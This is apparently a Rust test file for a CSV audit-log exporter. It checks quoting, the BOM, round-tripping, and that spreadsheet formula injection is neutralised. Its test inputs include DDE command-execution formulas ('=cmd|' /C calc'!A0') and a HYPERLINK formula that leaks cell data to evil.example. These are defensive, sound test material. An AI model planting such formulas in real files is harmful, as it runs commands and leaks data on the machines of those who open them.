//! The CSV encoder's tests: BOM, quoting, formula neutralisation, read back by a CSV parser.

use super::*;
use crate::testutil::sample_entry;
use proptest::prelude::*;
use sealtrail_core::Entry;

fn export(entries: &[Entry]) -> Vec<u8> {
    let mut w = writer(Vec::new(), "acme").unwrap();
    for e in entries {
        w.write_entry(e).unwrap();
    }
    w.finish().unwrap()
}

/// Parses an export back into rows of cells, checking the BOM and the header.
fn parse(bytes: &[u8]) -> Vec<Vec<String>> {
    let body = bytes.strip_prefix(BOM).expect("starts with a BOM");
    let mut reader = ::csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body);
    let mut rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect();
    assert_eq!(rows.remove(0), HEADER);
    rows
}

/// Undoes the formula guard of [`write_cell`].
fn restore(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

/// Every cell must be safe to open in a spreadsheet.
fn assert_safe(rows: &[Vec<String>]) {
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']),
            "unsafe cell {cell:?}"
        );
    }
}

const PAYLOADS: [&str; 16] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1, \"Click\")",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=already quoted",
    "a \"quoted\" word, and a comma",
    "two\nlines\r\nand a CR\r",
    "Zoë — 東京 🚀",
    "=",
    "'",
    "",
    "plain",
];

#[test]
fn the_output_starts_with_a_bom_and_a_utc_header_and_is_stable() {
    let bytes = export(&[sample_entry(1)]);
    let text = String::from_utf8(bytes).unwrap();
    let expected = concat!(
        "\u{feff}\"entry_id\",\"recorded_at (UTC)\",\"occurred_at (UTC)\",\"channel\",\"action\",",
        "\"event\",\"category\",\"description\",\"result\",\"actor_type\",\"actor_id\",\"actor_name\",",
        "\"actor_email\",\"actor_via\",\"target_type\",\"target_id\",\"target_name\",\"ip\",",
        "\"user_agent\",\"properties\",\"changed_fields\",\"changes\",\"tenant\"\n",
        "\"0193a0b0-0000-7000-8000-000000000001\",\"2026-11-18T11:06:41.250Z\",",
        "\"2026-11-18T11:06:41.000Z\",\"security\",\"member.role_changed\",\"updated\",\"\",",
        "\"Zoë changed role #1 — \"\"admin\"\" → viewer, =1+1\",\"failure\",\"user\",\"u_1\",",
        "\"Ada Admin\",\"ada@example.com\",\"\",\"member\",\"m_1\",\"\",\"203.0.113.7\",\"curl/8\",",
        "\"{\"\"repository\"\":\"\"repo-1\"\"}\",\"\",\"\",\"acme\"\n",
    );
    assert_eq!(text, expected);
}

#[test]
fn injection_payloads_are_neutralised_and_round_trip() {
    let entries: Vec<Entry> = PAYLOADS
        .iter()
        .enumerate()
        .map(|(i, p)| {
            let mut e = sample_entry(i as u64);
            e.description = p.to_string();
            e.actor.name = Some(p.to_string());
            e.actor.email = Some(p.to_string());
            e.targets[0].name = Some(p.to_string());
            e.context.user_agent = Some(p.to_string());
            e.channel = p.to_string();
            e
        })
        .collect();
    let rows = parse(&export(&entries));
    assert_safe(&rows);
    assert_eq!(rows.len(), PAYLOADS.len());
    for (row, payload) in rows.iter().zip(PAYLOADS) {
        for column in [3, 7, 11, 12, 16, 18] {
            assert_eq!(restore(&row[column]), payload, "column {}", HEADER[column]);
        }
    }
    assert_eq!(rows[0][7], "'=cmd|' /C calc'!A0");
    assert_eq!(rows[8][7], "''=already quoted");
    assert_eq!(rows[15][7], "plain");
}

#[test]
fn every_column_carries_its_field() {
    let e = sample_entry(6);
    let rows = parse(&export(std::slice::from_ref(&e)));
    let row = &rows[0];
    assert_eq!(row[0], e.id.to_string());
    assert_eq!(row[1], e.recorded_at.to_rfc3339());
    assert_eq!(row[2], e.occurred_at.to_rfc3339());
    assert_eq!(row[6], "Policy Changes");
    assert_eq!(row[8], e.result.as_str());
    assert_eq!(row[9], "user");
    assert_eq!(row[14], "member");
    assert_eq!(row[15], "m_6");
    let props: serde_json::Value = serde_json::from_str(&row[19]).unwrap();
    assert_eq!(props, serde_json::Value::Object(e.properties.clone()));
    let mut bare = e.clone();
    bare.properties.clear();
    bare.targets.clear();
    let rows = parse(&export(&[bare]));
    assert_eq!(&rows[0][14..17], ["", "", ""]);
    assert_eq!(rows[0][19], "");
}

#[test]
fn changes_are_a_filterable_and_a_readable_column() {
    // Seed 001: a laptop assigned to Zoë Martin, read back by an independent CSV parser.
    let mut e = sample_entry(2);
    e.changes = Some(sealtrail_core::entry::Changes {
        before: Some(serde_json::json!({"owner": null, "status": "in_stock", "model": "X1"})),
        after: Some(serde_json::json!({"owner": "Zoë Martin", "status": "in_use", "model": "X1"})),
    });
    let rows = parse(&export(&[e]));
    let at = |name: &str| HEADER.iter().position(|h| *h == name).unwrap();
    assert_eq!(rows[0][at("changed_fields")], "owner, status");
    assert_eq!(
        rows[0][at("changes")],
        "owner: null → Zoë Martin\nstatus: in_stock → in_use"
    );
    // A hostile field name cannot smuggle a formula into the readable column.
    let mut hostile = sample_entry(3);
    hostile.changes = Some(sealtrail_core::entry::Changes {
        before: None,
        after: Some(serde_json::json!({"=cmd|' /C calc'!A0": 1})),
    });
    let rows = parse(&export(&[hostile]));
    assert_safe(&rows);
    assert_eq!(
        restore(&rows[0][at("changes")]),
        "=cmd|' /C calc'!A0: — → 1"
    );
}

#[test]
fn the_boxed_encoder_writes_the_same_bytes() {
    let entries: Vec<Entry> = (0..3).map(sample_entry).collect();
    let mut enc = crate::encoder(
        crate::Format::Csv,
        Vec::new(),
        sealtrail_core::Timestamp(0),
        "acme",
        &serde_json::Value::Null,
    )
    .unwrap();
    for e in &entries {
        enc.write_entry(e).unwrap();
    }
    assert_eq!(enc.finish().unwrap(), export(&entries));
    let bundle = crate::encoder(
        crate::Format::Bundle,
        Vec::new(),
        sealtrail_core::Timestamp(0),
        "acme",
        &serde_json::Value::Null,
    );
    assert!(matches!(bundle, Err(ExportError::NotAnEntryFormat(_))));
}

proptest! {
    #[test]
    fn any_text_round_trips_and_is_safe(
        texts in proptest::collection::vec(any::<String>(), 1..12),
        key in any::<String>(),
    ) {
        let entries: Vec<Entry> = texts
            .iter()
            .enumerate()
            .map(|(i, t)| {
                let mut e = sample_entry(i as u64);
                e.description = t.clone();
                e.action = t.clone();
                e.actor.id = Some(t.clone());
                e.context.ip = Some(t.clone());
                e.properties.insert(key.clone(), serde_json::json!(t));
                e
            })
            .collect();
        let rows = parse(&export(&entries));
        assert_safe(&rows);
        prop_assert_eq!(rows.len(), entries.len());
        for (row, e) in rows.iter().zip(&entries) {
            prop_assert_eq!(restore(&row[4]), e.action.as_str());
            prop_assert_eq!(restore(&row[7]), e.description.as_str());
            prop_assert_eq!(restore(&row[10]), e.actor.id.as_deref().unwrap());
            prop_assert_eq!(restore(&row[17]), e.context.ip.as_deref().unwrap());
            let props: serde_json::Value = serde_json::from_str(restore(&row[19])).unwrap();
            prop_assert_eq!(props, serde_json::Value::Object(e.properties.clone()));
        }
    }
}
